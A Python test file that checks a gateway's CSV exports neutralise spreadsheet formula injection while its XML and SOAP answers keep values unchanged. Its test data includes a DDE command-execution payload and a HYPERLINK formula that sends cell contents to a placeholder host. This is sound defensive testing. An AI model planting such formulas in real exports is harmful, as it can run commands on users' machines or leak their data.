"""What one party sends never runs as a formula in another's spreadsheet: every CSV export
(exportPresences, the management pages' export, ``ciao-gateway export``) writes a text that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return with a leading ``'``; a
number stays a number; the XML export and the SOAP answers keep every value as it was sent.
On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import datetime, time
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from gateway.cli import main
from gateway.xml.export import spreadsheet_row
from tests.builders import BRUSSELS_WINTER, registration
from tests.conftest import DAY, PASSWORD
from tests.web import WebClient, base_of

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"open")'
# (LimosaId, DeviceId, ClientPresenceRegistrationReference) as sent, each registration's.
SENT = [
    ("+1+cmd|' /C calc'!A0", HYPERLINK, "@SUM(1+1)"),
    ("L-1", "-4.35", "-12-7"),
    ("L-2", "\tTAB", "\rCR"),
]
# What a spreadsheet reads in the CSV export's cells.
WRITTEN = [
    ("'+1+cmd|' /C calc'!A0", "'" + HYPERLINK, "'@SUM(1+1)"),
    ("L-1", "-4.35", "'-12-7"),
    ("L-2", "'\tTAB", "'\rCR"),
]
COLUMNS = ("LimosaId", "DeviceId", "ClientPresenceRegistrationReference")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+32 2 555 00 00", "'+32 2 555 00 00"),
        ("-", "'-"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-4.35", "-4.35"),
        ("+4.35", "+4.35"),
        ("-.5", "-.5"),
        ("50.8503", "50.8503"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (Decimal("-4.35"), Decimal("-4.35")),
        (-7, -7),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, cell):
    assert spreadsheet_row([value]) == [cell]


def _registered(gateway) -> list[int]:  # type: ignore[no-untyped-def]
    answers = gateway.client().service.registerPresences(
        PresenceRegistrationRequest=[
            registration(
                INSS=None,
                CompanyID=None,
                LimosaId=limosa,
                DeviceId=device,
                ClientPresenceRegistrationReference=reference,
                RegistrationDateTime=datetime.combine(DAY, time(7, minute), BRUSSELS_WINTER),
            )
            for minute, (limosa, device, reference) in enumerate(SENT)
        ]
    )
    return [a.PresenceRegistration.PresenceRegistrationId for a in answers]


def _cells(content: bytes) -> list[tuple[str, ...]]:
    rows = csv.DictReader(io.StringIO(content.decode(), newline=""))
    return [tuple(row[column] for column in COLUMNS) for row in rows]


def test_every_csv_export_writes_formulas_as_text_and_numbers_as_numbers(gateway, tmp_path):
    ids = _registered(gateway)
    client = gateway.client()
    soap = client.service.exportPresences(StartDate=DAY, EndDate=DAY, Format="CSV")
    assert _cells(soap.Content) == WRITTEN

    browser = WebClient(base_of(gateway), language="en")
    assert browser.login("badge-system", PASSWORD).status == 200
    help_text = browser.get(f"/manage/registrations?from={DAY}&to={DAY}").text("#export-help")
    assert help_text.startswith("In the CSV file, a text that begins with =, +, -, @")
    page = browser.get(f"/manage/export?from={DAY}&to={DAY}")
    assert page.status == 200
    assert _cells(page.body) == WRITTEN

    output = tmp_path / "out.csv"
    url = gateway.engine.url.render_as_string(hide_password=False)
    arguments = ["export", "--from", str(DAY), "--to", str(DAY), "--database", url]
    assert main([*arguments, "--output", str(output)]) == 0
    assert _cells(Path(output).read_bytes()) == WRITTEN

    # The XML export and the answers keep what was sent.
    xml = client.service.exportPresences(StartDate=DAY, EndDate=DAY, Format="XML")
    exported = etree.fromstring(xml.Content)
    kept = [tuple(e.findtext(f".//{{*}}{c}") for c in COLUMNS) for e in exported]
    assert kept == SENT
    for registration_id, sent in zip(ids, SENT, strict=True):
        found = client.service.getPresenceRegistration(PresenceRegistrationId=registration_id)
        submitted = found.PresenceRegistrationSubmitted
        assert tuple(submitted[column] for column in COLUMNS) == sent
